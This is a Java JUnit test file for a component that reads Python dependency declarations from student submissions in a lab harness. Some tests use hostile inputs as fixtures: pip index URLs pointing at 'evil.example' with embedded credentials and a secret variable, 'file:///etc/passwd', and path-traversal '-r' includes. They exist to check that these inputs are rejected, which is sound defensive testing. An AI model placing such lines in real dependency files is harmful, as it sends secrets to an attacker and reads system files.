package org.labharness.pipeline.environment;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.labharness.lab.EnvironmentSpec;
import org.labharness.lab.PythonVersion;
import org.labharness.pipeline.document.TreeReader;

class DeclarationFinderTests {
    @TempDir
    private Path tree;

    private Declarations find() {
        return DeclarationFinder.find(new TreeReader(tree), EnvironmentSpec.OF_THE_SUBMISSION, PythonVersion.PY311);
    }

    private List<String> lines() {
        return find().requirements().stream().map(Requirement::line).toList();
    }

    private void write(String file, String content) throws IOException {
        Path path = tree.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, content);
    }

    @Nested
    class MlProjects {
        @Test
        void nameTheirEnvironmentsAsTheyLike() throws IOException {
            write("MLproject", "conda_env: my_env.yaml\n");
            write("my_env.yaml", "dependencies:\n- python=3.10\n- pandas=2.2\n- pip:\n  - mlflow==2.9.2\n");
            assertThat(lines()).containsExactly("pandas==2.2.*", "mlflow==2.9.2");
            assertThat(find().python()).contains("3.10");
        }

        @Test
        void mayLieInAFolder() throws IOException {
            write("linux/MLproject", "python_env: env/python.yaml\n");
            write("linux/env/python.yaml", "python: '3.11'\ndependencies:\n- mlflow==2.9.2\n");
            assertThat(lines()).containsExactly("mlflow==2.9.2");
            assertThat(find().files()).containsExactly("linux/env/python.yaml");
        }

        @Test
        void readNothingOutsideOfTheRepository() throws IOException {
            write("MLproject", "conda_env: ../../etc/env.yaml\npython_env: /etc/env.yaml\n");
            assertThat(lines()).isEmpty();
        }
    }

    @Nested
    class Folders {
        @Test
        void countWhereThePipelineSpeaksOfThem() throws IOException {
            write("api/requirements.txt", "fastapi==0.110.0\n");
            write("training/requirements.txt", "PyYAML==6.0.1\n");
            write("dvc.yaml", "stages:\n  train:\n    cmd: python training/train.py\n");
            assertThat(lines()).containsExactly("PyYAML==6.0.1");
        }

        @Test
        void allCountWhereItSpeaksOfNone() throws IOException {
            write("api/requirements.txt", "fastapi==0.110.0\nnumpy==2.0.0\n");
            write("training/requirements.txt", "numpy==2.1.0\n");
            assertThat(lines()).containsExactly("fastapi==0.110.0", "numpy==2.0.0");
            assertThat(find().setAside()).isEmpty();
        }
    }

    @Nested
    class RequirementsFiles {
        @ParameterizedTest
        @ValueSource(strings = {"UTF-8", "UTF-16LE", "UTF-16BE"})
        void areReadWhateverEncodingWindowsGaveThem(String charset) throws IOException {
            Files.write(
                    tree.resolve("requirements.txt"),
                    "\uFEFFpandas==2.2.0\r\nnumpy\r\n".getBytes(Charset.forName(charset)));
            assertThat(lines()).containsExactly("pandas==2.2.0", "numpy");
        }

        @Test
        void loseCommentsHashesAndLineBreaks() throws IOException {
            write("requirements.txt", """
                    # all of it
                    pandas==2.2.0 \\
                        --hash=sha256:00 \\
                        --hash=sha256:11
                    numpy  # for arrays
                    requests #""");
            assertThat(lines()).containsExactly("pandas==2.2.0", "numpy", "requests");
            assertThat(find().requirements().getFirst().where()).hasToString("requirements.txt:2");
        }

        @Test
        void redirectTheInstallerNowhere() throws IOException {
            write("requirements.txt", """
                    --index-url https://user:secret@evil.example/simple
                    --extra-index-url=http://evil.example/${SECRET}/simple
                    -i https://evil.example
                    --trusted-host evil.example
                    -f ./wheels
                    --no-binary :all:
                    -e .
                    ./local
                    file:///etc/passwd
                    pandas
                    """);
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).containsExactly("pandas");
            assertThat(found.setAside()).hasSize(9);
            assertThat(found.setAside()).extracting(Aside::declared).noneMatch(text -> text.contains("secret"));
        }

        @Test
        void followOneAnotherInsideTheTreeAlone() throws IOException {
            write("requirements.txt", "-r sub/more.txt\n-r ../../etc/passwd\n-r gone.txt\n-r requirements.txt\n");
            write("sub/more.txt", "numpy\n-r ../requirements.txt\n");
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).containsExactly("numpy");
            assertThat(found.setAside()).extracting(Aside::reason).anyMatch(text -> text.contains("outside"));
            assertThat(found.setAside())
                    .extracting(Aside::reason)
                    .anyMatch(text -> text.contains("sub/gone.txt") || text.contains("gone.txt"));
            assertThat(found.files()).containsExactly("requirements.txt", "sub/more.txt");
        }

        @Test
        void areReadUpToACap() throws IOException {
            write("requirements.txt", "package-0\n".repeat(4_999) + "x\n".repeat(10_000));
            Declarations found = find();
            assertThat(found.requirements()).hasSizeLessThanOrEqualTo(2);
            assertThat(found.setAside()).extracting(Aside::reason).anyMatch(text -> text.contains("5000 lines"));
        }

        @Test
        void nameEachPackageOnceOnly() throws IOException {
            write("requirements.txt", "scikit_learn==1.3\nScikit-Learn==1.4\n");
            assertThat(lines()).containsExactly("scikit_learn==1.3");
            assertThat(find().setAside()).hasSize(1);
        }

        @Test
        void areFoundOneFolderBelowWhereNothingElseDeclaresAnything() throws IOException {
            write("app/requirements.txt", "numpy\n");
            assertThat(lines()).containsExactly("numpy");
        }

        @Test
        void forTestsAreNotForTheRun() throws IOException {
            write("requirements-dev.txt", "pytest\n");
            write("requirements_train.txt", "numpy\n");
            assertThat(lines()).containsExactly("numpy");
        }
    }

    @Nested
    class OtherFiles {
        @Test
        void ofAProjectCountWhereNoRequirementsFileDoes() throws IOException {
            write("pyproject.toml", """
                    [project]
                    requires-python = ">=3.12"
                    dependencies = ["pandas>=2", "numpy==2.1.0"]
                    """);
            assertThat(lines()).containsExactly("pandas>=2", "numpy==2.1.0");
            assertThat(find().python()).contains(">=3.12");
        }

        @Test
        void ofCondaGiveTheirPipPartAndTheirPackages() throws IOException {
            write("conda.yaml", """
                    dependencies:
                      - python=3.10
                      - numpy=1.24
                      - pip
                      - pip:
                        - mlflow==2.9.2
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("numpy==1.24.*", "mlflow==2.9.2");
            assertThat(find().python()).contains("3.10");
        }

        @Test
        void ofCondaAreTranslatedOnlyWhereTheNameIsCertain() throws IOException {
            write("environment.yml", """
                    dependencies:
                      - conda-forge::pytorch=2.4.0=cpu_py311h0
                      - matplotlib-base>=3.7,<4
                      - libopenblas=0.3
                      - vc=14.2
                      - vs2015_runtime=14.27
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("torch==2.4.0", "matplotlib>=3.7,<4");
            assertThat(find().setAside()).singleElement().satisfies(one -> {
                assertThat(one.declared()).isEqualTo("vc, vs2015_runtime");
                assertThat(one.fault()).isFalse();
            });
        }

        @Test
        void ofPipenvGiveTheirPackages() throws IOException {
            write("Pipfile", """
                    [packages]
                    numpy = "*"
                    pandas = ">=2"
                    flask = {version = "==3.0.0", extras = ["async"]}
                    own = {path = "."}
                    [dev-packages]
                    pytest = "*"
                    [requires]
                    python_version = "3.12"
                    """);
            assertThat(lines()).containsExactly("numpy", "pandas>=2", "flask==3.0.0");
            assertThat(find().python()).contains("3.12");
        }

        @Test
        void ofAnMlprojectMayNameARequirementsFile() throws IOException {
            write("python_env.yaml", "python: 3.11.4\ndependencies: [-r deps/list.txt, numpy]\n");
            write("deps/list.txt", "pandas\n");
            assertThat(lines()).containsExactly("pandas", "numpy");
        }

        @Test
        void areNotNeeded() {
            assertThat(find().isEmpty()).isTrue();
            assertThat(find().files()).isEmpty();
        }
    }

    @Nested
    class LockFilesOfProjects {
        @Test
        void ofUvPinWhatThisSystemNeedsAndNothingElse() throws IOException {
            write("requirements.txt", "something-else\n");
            write("uv.lock", """
                    version = 1
                    requires-python = ">=3.11"

                    [[package]]
                    name = "homework"
                    version = "0.1.0"
                    source = { virtual = "." }
                    dependencies = [
                        { name = "click" },
                        { name = "numpy", extra = ["fast"] },
                        { name = "pywin32", marker = "sys_platform == 'win32'" },
                    ]

                    [package.dev-dependencies]
                    dev = [{ name = "pytest" }]

                    [[package]]
                    name = "click"
                    version = "8.1.7"
                    source = { registry = "https://index.example/simple" }
                    dependencies = [{ name = "colorama", marker = "sys_platform == 'win32'" }]

                    [[package]]
                    name = "colorama"
                    version = "0.4.6"
                    source = { registry = "https://index.example/simple" }

                    [[package]]
                    name = "numpy"
                    version = "1.26.4"
                    source = { registry = "https://index.example/simple" }
                    resolution-markers = ["python_full_version < '3.13'"]
                    [package.optional-dependencies]
                    fast = [{ name = "numexpr" }]

                    [[package]]
                    name = "numpy"
                    version = "2.1.0"
                    source = { registry = "https://index.example/simple" }
                    resolution-markers = ["python_full_version >= '3.13'"]

                    [[package]]
                    name = "numexpr"
                    version = "2.10.0"
                    source = { registry = "https://index.example/simple" }

                    [[package]]
                    name = "pytest"
                    version = "8.3.0"
                    source = { registry = "https://index.example/simple" }

                    [[package]]
                    name = "pywin32"
                    version = "306"
                    source = { registry = "https://index.example/simple" }

                    [[package]]
                    name = "unrelated"
                    version = "1.0"
                    source = { registry = "https://index.example/simple" }
                    """);
            assertThat(lines())
                    .containsExactlyInAnyOrder("click==8.1.7", "numpy==1.26.4", "numexpr==2.10.0", "pytest==8.3.0");
            assertThat(find().setAside()).isEmpty();
            assertThat(find().files()).containsExactly("uv.lock");
            assertThat(DeclarationFinder.find(
                                    new TreeReader(tree), EnvironmentSpec.OF_THE_SUBMISSION, PythonVersion.PY313)
                            .requirements())
                    .extracting(Requirement::line)
                    .contains("numpy==2.1.0");
        }

        /** As {@code uv sync} does: what the project brings itself (its commands among it) is installed too. */
        @Test
        void ofUvBringTheProjectItself() throws IOException {
            write("pyproject.toml", """
                    [project]
                    name = "churn"
                    version = "0.1.0"
                    dependencies = ["click>=8"]
                    [project.scripts]
                    churn = "churn.main:run"
                    [build-system]
                    requires = ["hatchling"]
                    """);
            write("uv.lock", """
                    version = 1
                    [[package]]
                    name = "churn"
                    version = "0.1.0"
                    source = { editable = "." }
                    dependencies = [{ name = "click" }]
                    [[package]]
                    name = "click"
                    version = "8.1.7"
                    source = { registry = "https://index.example/simple" }
                    """);
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).contains("click==8.1.7");
            assertThat(found.local()).extracting(LocalPackage::folder).containsExactly("");
        }

        @Test
        void ofPoetryPinWhatTheProjectNames() throws IOException {
            write("pyproject.toml", """
                    [tool.poetry.dependencies]
                    python = "^3.11"
                    click = "^8"
                    [tool.poetry.group.dev.dependencies]
                    pytest = "*"
                    """);
            write("poetry.lock", """
                    [[package]]
                    name = "click"
                    version = "8.1.7"
                    optional = false
                    [package.dependencies]
                    colorama = {version = "*", markers = "platform_system == \\"Windows\\""}
                    iniconfig = "*"
                    [[package]]
                    name = "colorama"
                    version = "0.4.6"
                    [[package]]
                    name = "iniconfig"
                    version = "2.0.0"
                    [[package]]
                    name = "pytest"
                    version = "8.3.0"
                    [[package]]
                    name = "left-over"
                    version = "1.0"
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("click==8.1.7", "iniconfig==2.0.0", "pytest==8.3.0");
        }

        @Test
        void ofPipenvPdmAndTheStandardAreListsOfPins() throws IOException {
            write("Pipfile.lock", """
                    {"default": {"numpy": {"version": "==1.26.4", "hashes": ["sha256:00"]},
                                 "colorama": {"version": "==0.4.6", "markers": "sys_platform == 'win32'"},
                                 "own": {"git": "https://example.org/own.git", "ref": "0"}}}
                    """);
            assertThat(lines()).containsExactly("numpy==1.26.4");
            assertThat(find().setAside())
                    .singleElement()
                    .satisfies(one -> assertThat(one.why()).isEqualTo(Why.ADDRESS));

            write("pylock.toml", "[[packages]]\nname = 'attrs'\nversion = '25.1.0'\n");
            assertThat(lines()).containsExactly("attrs==25.1.0");

            write("pdm.lock", """
                    [[package]]
                    name = "six"
                    version = "1.16.0"
                    marker = "os_name == 'nt'"
                    [[package]]
                    name = "tqdm"
                    version = "4.66.0"
                    """);
            assertThat(lines()).containsExactly("tqdm==4.66.0");
        }

        @Test
        void ofCondaArePinsOfLinuxUnderNamesThatAreKnown() throws IOException {
            write("conda-lock.yml", """
                    package:
                      - {name: numpy, version: 1.26.4, manager: conda, platform: linux-64}
                      - {name: numpy, version: 1.26.0, manager: conda, platform: win-64}
                      - {name: pytorch, version: 2.4.0, manager: conda, platform: linux-64}
                      - {name: obscure-thing, version: "1", manager: conda, platform: linux-64}
                      - {name: attrs, version: 25.1.0, manager: pip, platform: linux-64}
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("numpy==1.26.4", "torch==2.4.0", "attrs==25.1.0");
        }

        @Test
        void thatAreBrokenLeaveTheWordToTheNext() throws IOException {
            write("uv.lock", "[[package\nnot toml");
            write("requirements.txt", "numpy\n");
            assertThat(lines()).containsExactly("numpy");
        }
    }

    @Nested
    class Projects {
        @Test
        void bringTheGroupsThatAreInstalledUnasked() throws IOException {
            write("pyproject.toml", """
                    [project]
                    dependencies = ["numpy"]
                    [project.optional-dependencies]
                    gpu = ["cupy"]
                    [dependency-groups]
                    base = ["six"]
                    dev = ["pytest", {include-group = "base"}, {include-group = "dev"}]
                    docs = ["sphinx"]
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("numpy", "pytest", "six");
        }

        @Test
        void mayTakeTheirDependenciesFromAFile() throws IOException {
            write("pyproject.toml", """
                    [project]
                    dynamic = ["dependencies"]
                    [tool.setuptools.dynamic]
                    dependencies = {file = ["deps/base.txt"]}
                    """);
            write("deps/base.txt", "numpy==1.26.4\n");
            assertThat(lines()).containsExactly("numpy==1.26.4");
        }

        @Test
        void thatNameAnotherSourceAreNotLookedUpUnderThatNameInTheIndex() throws IOException {
            write("pyproject.toml", """
                    [project]
                    dependencies = ["numpy", "course-tools", "shared"]
                    [tool.uv.sources]
                    course-tools = {git = "https://example.org/tools.git", tag = "v1"}
                    shared = {path = "../shared"}
                    """);
            assertThat(lines()).containsExactly("numpy");
            assertThat(find().setAside())
                    .extracting(Aside::declared)
                    .containsExactlyInAnyOrder(
                            "course-tools @ git+https://example.org/tools.git@v1", "shared (../shared)");
        }

        @Test
        void withABuildSystemAreInstalledThemselves() throws IOException {
            write("pyproject.toml", """
                    [build-system]
                    requires = ["hatchling"]
                    [project]
                    name = "homework"
                    dependencies = ["numpy"]
                    """);
            assertThat(find().local()).singleElement().satisfies(own -> {
                assertThat(own.folder()).isEmpty();
                assertThat(own.editable()).isTrue();
            });
        }

        @Test
        void ofSetuptoolsAreReadAndNeverRun() throws IOException {
            write("setup.cfg", """
                    [metadata]
                    name = homework
                    [options]
                    python_requires = >=3.12
                    install_requires =
                        numpy>=1.26  # arrays
                        pandas
                    [options.extras_require]
                    gpu = cupy
                    """);
            assertThat(lines()).containsExactly("numpy>=1.26", "pandas");
            assertThat(find().python()).contains(">=3.12");
        }

        @Test
        void ofASetupScriptCountWhereTheyArePlainLists() throws IOException {
            write("setup.py", """
                    from setuptools import setup
                    needed = ["numpy>=1.26", 'pandas']
                    open("/tmp/was-run", "w")
                    setup(name="homework", python_requires=">=3.11", install_requires=needed,
                          extras_require={"gpu": ["cupy"]})
                    """);
            assertThat(lines()).containsExactly("numpy>=1.26", "pandas");
        }
    }

    @Nested
    class PackagesOfTheSubmission {
        @Test
        void areNotedWithWhatTheyNeed() throws IOException {
            write("requirements.txt", "six\n-e .\n./libs/shared[plots]\n");
            write("setup.py", "from setuptools import setup\nsetup(install_requires=['numpy'])\n");
            write("libs/shared/pyproject.toml", """
                    [project]
                    dependencies = ["pandas"]
                    [project.optional-dependencies]
                    plots = ["matplotlib"]
                    """);
            Declarations found = find();
            assertThat(found.local()).extracting(LocalPackage::folder).containsExactly("", "libs/shared");
            assertThat(found.local()).extracting(LocalPackage::editable).containsExactly(true, false);
            assertThat(found.requirements())
                    .extracting(Requirement::line)
                    .containsExactlyInAnyOrder("six", "numpy", "pandas", "matplotlib");
        }

        @Test
        void thatAreNotThereAreSaidSo() throws IOException {
            write("requirements.txt", "-e ../elsewhere\n-e ./gone\n");
            assertThat(find().local()).isEmpty();
            assertThat(find().setAside()).hasSize(2).allMatch(Aside::fault).allMatch(one -> one.why() == Why.LOCAL);
        }
    }

    @Nested
    class Constraints {
        @Test
        void areKeptApartFromRequirements() throws IOException {
            write("requirements.txt", "-c constraints.txt\nnumpy\n");
            write("constraints.txt", "numpy<2\nscipy==1.11.0\n-r more.txt\n");
            write("more.txt", "pandas<3\n");
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).containsExactly("numpy");
            assertThat(found.constraints()).containsExactly("numpy<2", "scipy==1.11.0", "pandas<3");
        }
    }

    @Nested
    class Imports {
        @Test
        void standInWhereNothingIsDeclared() throws IOException {
            write("train.py", """
                    import os, sys
                    import numpy as np, pandas as pd
                    from sklearn.ensemble import RandomForestClassifier
                    from . import sibling
                    from .other import thing
                    import helpers.data
                    import my_secret_course_package
                    text = "import fake_in_text"
                    if True: import yaml
                    try:
                        from PIL import Image
                    except ImportError:
                        Image = None
                    """);
            write("helpers/data.py", "import mlflow.sklearn\n");
            Declarations found = find();
            assertThat(found.requirements())
                    .extracting(Requirement::line)
                    .containsExactlyInAnyOrder("numpy", "pandas", "scikit-learn", "PyYAML", "pillow", "mlflow");
            assertThat(found.requirements()).noneMatch(Requirement::blamed);
            assertThat(found.files()).isEmpty();
            assertThat(found.setAside()).singleElement().satisfies(one -> {
                assertThat(one.declared()).isEqualTo("import my_secret_course_package");
                assertThat(one.where()).hasToString("train.py:7");
            });
        }
    }

    /** What pandas, dvclive and others import themselves once they are asked for something. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            import pandas as pd; pd.read_excel('a.xlsx')                | openpyxl, pandas, xlrd
            from pandas import read_parquet; read_parquet('a')          | pandas, pyarrow
            import pandas as pd; pd.DataFrame().to_parquet('a')         | pandas, pyarrow
            from dvclive import Live; Live().log_image('a', b)          | dvclive, pillow
            import mlflow; mlflow.sklearn.log_model(m, name='m')        | mlflow, scikit-learn
            import mlflow.sklearn                                       | mlflow, scikit-learn
            from mlflow import xgboost                                  | mlflow, xgboost
            from xgboost import XGBClassifier; XGBClassifier()          | scikit-learn, xgboost
            import lightgbm as lgb; lgb.LGBMRegressor()                 | lightgbm, scikit-learn
            from fastapi.testclient import TestClient                   | fastapi, httpx
            import numpy as np; np.x().to_parquet('a')                  | numpy
            import pandas as pd; to_parquet = 1                         | pandas
            """)
    void librariesAskForPackagesLate(String code, String packages) throws IOException {
        write("train.py", code.replace("; ", "\n") + "\n");
        assertThat(lines()).containsExactlyInAnyOrder(packages.split(", ", -1));
    }

    @Test
    void aLateCallNeedNotStandWhereTheLibraryIsImported() throws IOException {
        write("load.py", "import pandas as pd\n");
        write("save.py", "def save(frame):\n    frame.to_excel('a.xlsx')\n");
        Declarations found = find();
        assertThat(found.requirements()).extracting(Requirement::line).containsExactlyInAnyOrder("openpyxl", "pandas");
        assertThat(found.requirements()).noneMatch(Requirement::blamed);
    }

    @Test
    void whichDvcIsAskedForIsNoMatter() throws IOException {
        write("requirements.txt", "DVC[s3]==2.9.5\nnumpy==1.21.5\n");
        assertThat(find().requirements())
                .extracting(Requirement::line, Requirement::blamed)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("DVC[s3]==2.9.5", false),
                        org.assertj.core.groups.Tuple.tuple("numpy==1.21.5", true));
    }

    @Test
    void aFolderOfRequirementsIsReadButForWhatIsForSomethingElse() throws IOException {
        write("requirements/base.txt", "numpy\n");
        write("requirements/dev.txt", "-r base.txt\npytest\n");
        write("notes/words.txt", "pandas\n");
        assertThat(lines()).containsExactly("numpy");
    }

    @Test
    void aLabsPackagesReplaceWhatIsDeclared() throws IOException {
        write("requirements.txt", "evil\n");
        Declarations found = DeclarationFinder.find(
                new TreeReader(tree), new EnvironmentSpec(null, List.of("pandas==2.2.0")), PythonVersion.PY311);
        assertThat(found.requirements()).extracting(Requirement::line).containsExactly("pandas==2.2.0");
        assertThat(found.files()).containsExactly("lab.yaml");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            >=3.12        | 3.13
            3.10          | 3.11
            3.12.1        | 3.13
            >=3.9,<3.12   | 3.11
            >=3.9         | 3.11
            >3.11         | 3.13
            ^3.13         | 3.13
            system        | 3.11
            """)
    void thePythonAskedForChoosesAmongOurs(String asked, String python) throws IOException {
        Files.write(tree.resolve(".python-version"), asked.getBytes(StandardCharsets.UTF_8));
        assertThat(PythonChoice.of(null, find().python(), false).version()).hasToString(python);
    }

    @Test
    void codeForANewerPythonOutweighsWhatIsAskedForButNotTheLab() {
        assertThat(PythonChoice.of(null, Optional.empty(), true).version()).hasToString("3.13");
        assertThat(PythonChoice.of(null, Optional.of(">=3.9"), true).version()).hasToString("3.13");
        assertThat(PythonChoice.of(PythonVersion.PY311, Optional.empty(), true).version())
                .hasToString("3.11");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            ^1.2.3 | a>=1.2.3,<2
            ^0.3.1 | a>=0.3.1,<0.4
            ~1.2   | a>=1.2,<1.3
            1.5    | a==1.5
            >=2,<3 | a>=2,<3
            *      | a
            """)
    void poetrysVersionsBecomePips(String version, String requirement) throws IOException {
        write("pyproject.toml", "[tool.poetry.dependencies]\na = \"" + version + "\"\n");
        assertThat(lines()).containsExactly(requirement);
    }
}
